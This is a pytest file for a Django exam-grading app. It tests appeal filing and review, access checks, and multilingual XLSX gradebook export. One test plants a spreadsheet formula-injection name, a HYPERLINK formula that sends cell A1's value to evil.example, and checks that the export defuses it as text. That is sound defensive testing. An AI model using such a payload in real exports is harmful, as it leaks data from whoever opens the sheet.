"""Pages of appeals and the gradebook: the student files from the result page (a refusal
keeps what they typed), the reviewer's page shows the student and the work and asks
before deciding; the gradebook XLSX read back cell by cell, in the requester's language,
with formula injection defused and unreleased results shown as "Not released"."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from emtihan.grading.models import Appeal, AppealStatus, Work
from emtihan.grading.services import appeal_file, results_release

from .services.test_results_release import mark_written
from .test_views import written_of

pytestmark = pytest.mark.django_db


def client_of(user, language: str = "en") -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE=language)
    client.force_login(user)
    return client


@pytest.fixture
def released(pile, world):
    """The first two works released (right and wrong closed answers), the rest not."""
    mark_written(pile, pile.attempts[0], "0.5")
    mark_written(pile, pile.attempts[1], "1")
    results_release(actor=world.teacher, exam=pile.exam)
    return pile


def test_the_student_files_an_appeal_and_a_refusal_keeps_the_reason(released):
    user, attempt = released.users[0], released.attempts[0]
    client = client_of(user)
    page = client.get(reverse("grading:result", args=[attempt.pk])).content.decode()
    assert 'id="appeal-form"' in page
    url = reverse("grading:appeal_file", args=[attempt.pk])
    refused = client.post(url, {"reason": "   "})
    assert refused.status_code == 400
    assert "Write the reason for your appeal" in refused.content.decode()
    response = client.post(url, {"reason": "Сұрақ 6: формула дұрыс"})
    assert response.status_code == 302
    page = client.get(reverse("grading:result", args=[attempt.pk])).content.decode()
    assert "Сұрақ 6: формула дұрыс" in page and 'data-status="open"' in page
    assert 'id="appeal-form"' not in page
    exams = client.get("/sitting/exams/").content.decode()
    assert 'data-appeal="open"' in exams and "Appeal: Under review" in exams
    again = client.post(url, {"reason": "Тағы да"})
    assert again.status_code == 400 and "already appealed" in again.content.decode()
    # another student's result: 404, nothing filed
    assert client_of(released.users[1]).post(url, {"reason": "x"}).status_code == 404
    assert Appeal.objects.count() == 1


def test_the_reviewer_sees_the_student_and_the_work_and_is_asked_first(released, world):
    attempt = released.attempts[0]
    appeal = appeal_file(actor=released.users[0], attempt_id=attempt.pk, reason="Q6 please")
    teacher = client_of(world.teacher)
    results = teacher.get(reverse("grading:results", args=[released.exam.pk])).content.decode()
    assert reverse("grading:appeal", args=[appeal.pk]) in results
    url = reverse("grading:appeal", args=[appeal.pk])
    page = teacher.get(url).content.decode()
    assert released.users[0].get_full_name() in page and "202301457" in page
    assert "Жауап 0" in page and "Q6 please" in page  # the written answer, drawn
    field = f"q{written_of(attempt)}"
    asked = teacher.post(url, {field: "1", "outcome": "change", "answer": "Дұрыс."})
    assert asked.status_code == 200 and 'id="confirm-form"' in asked.content.decode()
    assert Appeal.objects.get().is_open
    done = teacher.post(
        url, {field: "1", "outcome": "change", "answer": "Дұрыс.", "confirmed": "yes"}
    )
    assert done.status_code == 302
    work = Work.objects.get(attempt=attempt)
    assert work.result_points == Decimal("6.00") and work.result_letter == "A"
    assert Appeal.objects.get().status == AppealStatus.CHANGED
    student_page = client_of(released.users[0]).get(reverse("grading:result", args=[attempt.pk]))
    text = student_page.content.decode()
    assert "changed on appeal, was 0.50" in text and 'id="appeal-before"' in text
    # a grader or another teacher cannot open it
    assert client_of(released.grader).get(url).status_code == 404
    assert client_of(world.other_teacher).get(url).status_code == 404


def test_an_out_of_range_mark_is_shown_again_with_its_message(released, world):
    attempt = released.attempts[0]
    appeal = appeal_file(actor=released.users[0], attempt_id=attempt.pk, reason="Q6")
    field = f"q{written_of(attempt)}"
    response = client_of(world.teacher).post(
        reverse("grading:appeal", args=[appeal.pk]),
        {field: "7", "outcome": "change", "answer": "typed answer", "confirmed": "yes"},
    )
    text = response.content.decode()
    assert response.status_code == 400 and "A mark is from 0" in text
    assert 'value="7"' in text and "typed answer" in text
    assert Appeal.objects.get().is_open


def sheet_of(response) -> list[tuple]:
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)
                                    if response.streaming else response.content))  # fmt: skip
    return list(book.worksheets[0].iter_rows(values_only=True)), book


def test_the_gradebook_of_an_exam_read_back(released, world):
    first = Work.objects.get(attempt=released.attempts[0])
    appeal_file(actor=released.users[0], attempt_id=released.attempts[0].pk, reason="x")
    # a hostile name: written as text, never a formula
    hostile = released.users[3]
    hostile.full_name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    hostile.save()
    response = client_of(world.registrar).get(
        reverse("grading:gradebook_export"), {"exam": released.exam.pk}
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'gradebook-exam-{released.exam.pk}.xlsx"')
    rows, book = sheet_of(response)
    assert rows[0] == (
        "Student ID", "Full name", "Group", "Discipline", "Exam", "Points", "Maximum",
        "Letter", "GPA points", "Traditional mark", "State", "Appeal",
    )  # fmt: skip
    by_id = {r[0]: r for r in rows[1:]}
    row = by_id["202301457"]
    assert row[1] == released.users[0].get_full_name()
    assert (Decimal(str(row[5])), Decimal(str(row[6]))) == (first.result_points, first.result_max)
    assert (row[7], Decimal(str(row[8])), row[9]) == (first.result_letter, first.result_gpa,
                                                       "Excellent")  # fmt: skip
    assert (row[10], row[11]) == ("Released", "Under review")
    unreleased = by_id["202301479"]
    assert unreleased[5:10] == (None, None, None, None, None)
    assert unreleased[10] == "Not released"
    # the world's own student of the group did not sit
    assert any(r[10] == "Did not sit" for r in rows[1:])
    cell = next(c for c in book.worksheets[0]["B"] if str(c.value).startswith("=HYPERLINK"))
    assert cell.data_type == "s" and cell.quotePrefix


def test_the_gradebook_speaks_the_requesters_language_and_covers_group_and_discipline(
    released, world
):
    discipline = released.exam.choice.discipline
    response = client_of(world.registrar, "ru").get(
        reverse("grading:gradebook_export"), {"discipline": discipline.pk}
    )
    rows, _book = sheet_of(response)
    assert rows[0][:2] == ("Студенческий ID", "ФИО") and rows[0][11] == "Апелляция"
    assert {r[10] for r in rows[1:]} >= {"Не опубликовано", "Опубликовано"}
    group = released.exam.choice.group
    kazakh, _book = sheet_of(
        client_of(world.registrar, "kk").get(
            reverse("grading:gradebook_export"), {"group": group.pk}
        )
    )
    assert kazakh[0][1] == "Аты-жөні" and len(kazakh) == len(rows)
    # only the registrar's office; an unknown scope is a 404
    for person in (world.teacher, world.head, released.grader, released.users[0]):
        assert client_of(person).get(reverse("grading:gradebook_export"),
                                     {"exam": released.exam.pk}).status_code == 403  # fmt: skip
    registrar = client_of(world.registrar)
    assert registrar.get(reverse("grading:gradebook_export"), {"exam": 99999}).status_code == 404
    assert registrar.get(reverse("grading:gradebook_export")).status_code == 404
    assert registrar.get(reverse("grading:gradebook")).status_code == 200


def test_a_gradebook_above_the_bound_is_refused_with_a_message(released, world, monkeypatch):
    monkeypatch.setattr("emtihan.grading.gradebook.MAX_ROWS", 2)
    client = client_of(world.registrar)
    response = client.get(reverse("grading:gradebook_export"), {"exam": released.exam.pk})
    assert response.status_code == 302 and response["Location"] == reverse("grading:gradebook")
    page = client.get(response["Location"]).content.decode()
    assert "export per exam or group" in page
